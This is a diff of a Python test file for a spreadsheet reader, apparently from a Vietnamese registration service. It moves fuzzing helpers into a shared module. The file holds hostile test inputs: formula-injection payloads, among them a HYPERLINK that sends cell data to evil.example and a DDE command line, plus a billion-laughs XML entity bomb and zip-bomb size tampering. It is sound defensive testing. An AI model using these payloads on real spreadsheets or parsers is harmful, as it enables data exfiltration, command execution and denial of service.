@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import io
 import re
-import struct
 import time
 import zipfile
 
@@ -28,14 +27,18 @@ from khuyenhoc.sheets import xlsx as xlsx_reader
 from khuyenhoc.sheets.writing import save
 from services.fund.documents import honour_roll_xlsx
 from services.registration.directory.hamlets_sheet import COLUMNS
+from tests.hostile_files import (
+    LAUGHS,
+    declared_sizes,
+    good_xlsx,
+    rezip,
+    sheet_path,
+    zip_of_something_else,
+)
 
 VIETNAMESE = re.compile(
     r"[àáảãạăắằẳẵặâấầẩẫậèéẻẽẹêếềểễệìíỉĩịòóỏõọôốồổỗộơớờởỡợùúủũụưứừửữựỳýỷỹỵđ]", re.I
 )
-ROWS = [
-    {"communeCode": "06184", "name": "Thôn Pò Mỏ", "kind": "Thôn"},
-    {"communeCode": "06184", "name": "Khu phố 2", "kind": "Khu phố"},
-]
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
     "=cmd|' /C calc'!A0",
@@ -47,46 +50,12 @@ INJECTIONS = [
 ]
 
 
-def good_xlsx(rows=ROWS) -> bytes:
-    return write_workbook("THÔN", COLUMNS, rows=rows)
-
-
 def refusal(data: bytes, name: str = "thon.xlsx", **limits) -> SpreadsheetError:
     with pytest.raises(SpreadsheetError) as caught:
         read_all(data, name, COLUMNS, **limits)
     error = caught.value
     assert VIETNAMESE.search(str(error)), str(error)
     return error
-
-
-def rezip(data: bytes, change) -> bytes:
-    """The .xlsx with its members passed through ``change(name, bytes) -> bytes | None``."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
-        for info in src.infolist():
-            changed = change(info.filename, src.read(info))
-            if changed is not None:
-                dst.writestr(info.filename, changed, zipfile.ZIP_DEFLATED)
-    return out.getvalue()
-
-
-def declared_sizes(data: bytes, member: str, size: int) -> bytes:
-    """The zip with the uncompressed size its central directory states for ``member`` set to
-    ``size`` (what a crafted bomb does), the data left as it is."""
-    raw = bytearray(data)
-    at = 0
-    while (at := raw.find(b"PK\x01\x02", at)) >= 0:
-        name_length = struct.unpack_from("<H", raw, at + 28)[0]
-        if raw[at + 46 : at + 46 + name_length].decode() == member:
-            struct.pack_into("<I", raw, at + 24, size)
-            return bytes(raw)
-        at += 4
-    raise AssertionError(f"{member} not in the zip")
-
-
-def sheet_path(data: bytes) -> str:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        return next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
 
 
 def test_a_good_file_reads():
@@ -110,11 +79,7 @@ def test_broken_files_are_refused_with_a_reason(data, name, key):
 
 
 def test_a_zip_of_something_else_named_xlsx_is_refused():
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr("readme.txt", "không phải bảng tính")
-        archive.writestr("photo.jpg", b"\xff\xd8\xff" + b"0" * 1000)
-    assert refusal(out.getvalue()).key == "unreadable_file"
+    assert refusal(zip_of_something_else()).key == "unreadable_file"
 
 
 def test_a_zip_bomb_is_refused_before_anything_is_inflated():
@@ -157,13 +122,6 @@ def test_a_member_lying_small_about_its_size_is_unreadable_not_a_hang():
     path = sheet_path(good_xlsx())
     lying = declared_sizes(good_xlsx(), path, 10)
     assert refusal(lying).key == "unreadable_file"
-
-
-LAUGHS = (
-    b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
-    + b"".join(b'<!ENTITY lol%d "%s">' % (i + 1, b"&lol%d;" % i * 10) for i in range(8))
-    + b"]>"
-)
 
 
 def test_an_xml_entity_bomb_in_the_styles_is_refused():
